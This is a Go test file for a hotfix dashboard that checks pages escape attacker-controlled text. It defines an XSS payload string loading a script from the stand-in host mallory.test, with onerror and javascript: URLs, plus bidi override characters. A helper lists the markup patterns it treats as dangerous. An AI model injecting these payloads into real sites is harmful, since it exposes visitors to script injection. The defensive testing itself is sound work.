package dashboard_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/hotfixbot/hotfixbot/internal/dashboard"
	"github.com/hotfixbot/hotfixbot/internal/hotfix"
)

const evil = `"'><script src=//mallory.test/x.js></script><img src=x onerror=alert(1)>{{.}}` + "`"

// hostile is a board in which everything that people can choose is an attack.
func hostile() hotfix.Board {
	board := shop()
	board.Name = "acme/" + evil
	board.Applications = []string{evil, "other"}
	board.Problems = []hotfix.Problem{{What: evil, Remedy: evil}}
	board.Notes = []string{evil}
	for i := range board.Environments {
		env := &board.Environments[i]
		env.Name, env.Runs = evil, []hotfix.Running{{Application: evil, Version: evil, Tag: evil, Mark: "+"}}
	}
	status := &board.Hotfixes[1]
	status.Title, status.Author, status.Landing, status.Forced = evil, evil, evil, evil
	status.URL = "javascript:alert(1)"
	status.Versions = []hotfix.Tagged{{Application: evil, Tag: evil, Release: "javascript:alert(2)"}}
	status.Landed.Evidence, status.HeldOpenBy = evil, evil
	status.Modules, status.Compare = []string{evil}, map[string]string{"dev": "javascript:alert(4)"}
	status.Stages = []hotfix.StageStanding{{Environment: evil, State: hotfix.StageDeployed, URL: "javascript:alert(5)"}}
	status.Standings[0].Environment, status.Standings[0].Proof.Person = evil, evil
	development := &status.Standings[1]
	development.PullURL, development.Unresolved = "javascript:alert(3)", []string{evil}
	return board
}

// Nothing turns the words of a page around.
func TestNothingOfOthersTurnsText(t *testing.T) {
	board := shop()
	board.Hotfixes[1].Title = "\u202Eevil\u2066 title"
	for _, path := range []string{"/", "/hotfixes", "/hotfixes/7/34"} {
		if body := get(t, pages(t, config(shelf{boards: []hotfix.Board{board}})), http.MethodGet, path).body; strings.ContainsAny(body, "\u202E\u2066") || path != "/" && !strings.Contains(body, "evil title") {
			t.Errorf("%s shows the title otherwise", path)
		}
	}
}

func TestNothingOfOthersBecomesMarkup(t *testing.T) {
	history := []hotfix.Event{{
		At: merged, Pull: 34, Environment: evil, From: evil, To: evil,
		Ground: hotfix.Ground{Tags: []string{evil}, Commit: evil, Person: evil, Reason: evil},
	}}
	p := pages(t, config(shelf{
		boards: []hotfix.Board{hostile(), shop()}, history: history,
		receipts: []hotfix.Receipt{{GUID: evil, Event: evil, Action: evil, Repository: 7}},
		debts:    []hotfix.Debt{{Repository: 7, Why: evil}, {Repository: 8, Problem: evil}},
	}))
	for _, path := range []string{"/", "/hotfixes", "/hotfixes/7/34", "/deliveries"} {
		got := get(t, p, http.MethodGet, path)
		if got.status != http.StatusOK || !strings.Contains(words(got.tree(t)), "<script src=//mallory.test/x.js>") {
			t.Errorf("%s: %d, the words are not shown as they are", path, got.status)
		}
		for n := range got.tree(t).Descendants() {
			if n.Type == html.ElementNode {
				harmless(t, path, n)
			}
		}
	}
}

// Forms, what was asked for, and tokens are made of people's words, too.
func TestNothingOfOthersBecomesMarkupWhereOneActs(t *testing.T) {
	board := hostile()
	board.Hotfixes[1].Deployable, board.Hotfixes[1].Standings[1].Branch, board.Public = []string{evil}, evil, true
	h := newHouse(t, func(c *dashboard.Config) { c.Boards = shelf{boards: []hotfix.Board{board}} })
	alice := h.as("alice")
	if got := alice.asks("skip", evil, evil); got.status != http.StatusSeeOther {
		t.Fatalf("%d %s", got.status, got.body)
	}
	if err := h.store.AnswerPress(t.Context(), private, h.waiting()[0].ID, hotfix.Response{Said: evil, Issue: 1, Reply: 2}); err != nil {
		t.Fatal(err)
	}
	form := url.Values{"form": {alice.form()}, "kind": {"badge"}, "name": {evil[:50]}, "repository": {"7"}}
	for path, got := range map[string]answer{
		place: alice.get(place), "/tokens": alice.send("/tokens", form), "refused": alice.asks("skip", evil, ""), "/sign-in": h.browser().get("/sign-in?to=" + url.QueryEscape("/"+evil)),
	} {
		for n := range got.tree(t).Descendants() {
			if n.Type == html.ElementNode {
				harmless(t, path, n)
			}
		}
	}
	picture := h.browser().get("/badge/acme/" + url.PathEscape(evil) + "/" + url.PathEscape(evil) + ".svg?application=" + url.QueryEscape(evil))
	if said(t, picture); strings.Contains(picture.body, "<script") || strings.Contains(picture.body, "<img") {
		t.Error(picture.body)
	}
}

// harmless fails on what makes a browser run something or ask another host.
func harmless(t *testing.T, path string, n *html.Node) {
	t.Helper()
	switch n.Data {
	case "iframe", "object", "embed", "base", "style":
		t.Errorf("%s: <%s>", path, n.Data)
	case "script":
		if attribute(n, "src") != "/assets/live.js" || n.FirstChild != nil {
			t.Errorf("%s: a script that is not the page's own", path)
		}
	case "form":
		if m := attribute(n, "method"); m != "get" && m != "post" || !strings.HasPrefix(attribute(n, "action"), "/") {
			t.Errorf("%s: a form that sends to %q", path, attribute(n, "action"))
		}
	}
	for _, a := range n.Attr {
		switch {
		case strings.HasPrefix(a.Key, "on"), a.Key == "style":
			t.Errorf("%s: <%s %s>", path, n.Data, a.Key)
		case strings.HasPrefix(strings.ToLower(strings.TrimSpace(a.Val)), "javascript:"):
			t.Errorf("%s: <%s %s=%q>", path, n.Data, a.Key, a.Val)
		case n.Data != "a" && (a.Key == "href" || a.Key == "src") && !strings.HasPrefix(a.Val, "/assets/"):
			t.Errorf("%s: <%s> loads %q", path, n.Data, a.Val)
		}
	}
}

func TestPagesAreReadableByMachines(t *testing.T) {
	p := pages(t, config(shelf{boards: []hotfix.Board{shop()}, history: []hotfix.Event{{At: merged, Pull: 34, To: "open"}}}))
	for _, path := range []string{"/", "/hotfixes", "/hotfixes/7/34", "/deliveries", "/nothing"} {
		root := get(t, p, http.MethodGet, path).tree(t)
		if lang := attribute(all(root, "html")[0], "lang"); lang != "en" {
			t.Errorf("%s: language %q", path, lang)
		}
		if len(all(root, "title")) != 1 || len(all(root, "h1")) != 1 || len(all(root, "main")) != 1 {
			t.Errorf("%s: no single title, h1 and main", path)
		}
		for _, th := range all(root, "th") {
			if scope := attribute(th, "scope"); scope != "col" && scope != "row" {
				t.Errorf("%s: <th> %q has scope %q", path, words(th), scope)
			}
		}
	}
}
